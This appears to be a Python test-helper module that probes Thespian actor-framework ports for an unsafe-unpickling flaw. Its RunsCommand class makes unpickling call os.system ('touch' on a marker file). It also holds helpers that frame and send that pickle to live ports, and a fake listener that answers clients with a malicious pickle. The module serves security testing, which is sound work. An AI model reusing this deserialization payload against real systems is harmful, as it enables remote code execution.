"""Talking to Thespian ports as an attacker would: raw frames, fake listeners, /proc lookups."""

from __future__ import annotations

import os
import pickle
import socket
import threading
from pathlib import Path


class RunsCommand:
    """Unpickling this runs ``touch <marker>`` (the pickle an attacker sends)."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def thespian_frame(value: object) -> bytes:
    """``value`` framed the way plain Thespian 4.0.1 frames a message: ``b"<len>>" + pickle``."""
    payload = pickle.dumps(value)
    return b"%d>" % len(payload) + payload


def malicious_frame(marker: Path) -> bytes:
    """A Thespian frame whose unpickling creates ``marker``."""
    return thespian_frame((None, RunsCommand(marker)))


def send_and_read(host: str, port: int, data: bytes, wait: float = 3.0) -> bytes | None:
    """Send ``data``, then read until the peer closes (returned) or ``wait`` passes (None: no reaction)."""
    with socket.create_connection((host, port), timeout=wait) as conn:
        conn.sendall(data)
        received = b""
        try:
            while True:
                chunk = conn.recv(4096)
                if not chunk:
                    return received
                received += chunk
        except TimeoutError:
            return None


def listening_sockets(pids) -> set[tuple[str, int]]:
    """``{(host, port)}`` of TCP listeners held by ``pids`` (from /proc/net/tcp + fds)."""
    inodes = set()
    for pid in pids:
        for target in open_descriptors(pid):
            if target.startswith("socket:["):
                inodes.add(target[8:-1])
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and fields[9] in inodes:  # 0A: LISTEN
                host, port = fields[1].split(":")
                found.add((_host(host), int(port, 16)))
    return found


def own_listeners(pid: int, others) -> set[int]:
    """Ports ``pid`` listens on that none of ``others`` holds (Thespian's forks inherit their parent's)."""
    inherited = {port for other in others if other != pid for _, port in listening_sockets([other])}
    return {port for _, port in listening_sockets([pid])} - inherited


def open_descriptors(pid: int) -> set[str]:
    """What ``pid``'s descriptors point at; one closed while we look is skipped."""
    targets = set()
    try:
        entries = list(Path(f"/proc/{pid}/fd").iterdir())
    except OSError:
        return targets
    for fd in entries:
        try:
            targets.add(os.readlink(fd))
        except OSError:
            pass
    return targets


def _host(hexed: str) -> str:
    if len(hexed) == 8:
        return ".".join(str(int(hexed[i : i + 2], 16)) for i in (6, 4, 2, 0))
    return hexed


def parent_pid(pid: int) -> int | None:
    try:
        return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
    except (OSError, ValueError, IndexError):
        return None


def logger_pid(pids, actors_log: Path) -> int:
    """The pid of Thespian's logger: the one process of ``pids`` that holds ``actors.log`` open."""
    holders = [pid for pid in pids if str(actors_log) in open_descriptors(pid)]
    assert len(holders) == 1, f"expected one process holding {actors_log}, found {holders}"
    return holders[0]


class FakeListener:
    """A squatter on a port: records what clients send, answers like an unpatched Thespian admin
    would (with a pickle of its choosing), so a client that unpickles the answer runs its code."""

    def __init__(self, answer: bytes) -> None:
        self.answer = answer
        self.received: list[bytes] = []
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(16)
        self.port = self.server.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2.0)
                try:
                    self.received.append(conn.recv(65536))
                    conn.sendall(self.answer)
                except OSError:
                    pass

    def close(self) -> None:
        try:
            self.server.shutdown(socket.SHUT_RDWR)  # wakes the accept (a plain close does not)
        except OSError:
            pass
        self.server.close()
        self._thread.join(5)
